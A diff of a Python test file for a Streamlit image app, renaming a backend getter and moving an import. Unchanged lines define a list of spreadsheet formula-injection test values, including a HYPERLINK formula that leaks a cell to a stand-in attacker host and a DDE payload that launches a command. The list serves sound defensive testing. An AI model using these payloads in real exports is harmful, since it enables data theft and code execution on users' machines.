@@ -14,15 +14,15 @@ from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from app_pages.common import literal
-from core.app_state import get_manager
+from core.app_state import get_backend
 from core.errors import BadInputError, ModelUnavailableError
 from core.formatting import precision_label
 from core.models import loading
 from core.models.registry import MODELS, Family, custom_spec
 from core.tasks import pnginfo, tables
-from core.tasks.generation import GenerationSettings
 from core.tasks.images import decode_image
 from core.tasks.jobs import Job, JobState
+from core.tasks.sd_settings import GenerationSettings
 
 HOME = str(Path(__file__).resolve().parent.parent / "Home.py")
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "@SUM(A1)", "+cmd|'/c calc'!A0", "-2+3", "\t=1", "\r=1"]
@@ -235,7 +235,7 @@ def test_a_typed_model_that_cannot_load_asks_to_check_what_was_typed():
 
 def test_the_hot_dog_page_offline_without_stand_in_tells_what_helps(app_env, monkeypatch):
     monkeypatch.setenv("DASH_STANDIN_FALLBACK", "0")
-    get_manager.clear()
+    get_backend.clear()
     at = open_page("app_pages/hotdog.py")
     at.radio(key="hotdog:source").set_value("Samples").run()
     message = at.error[0].value
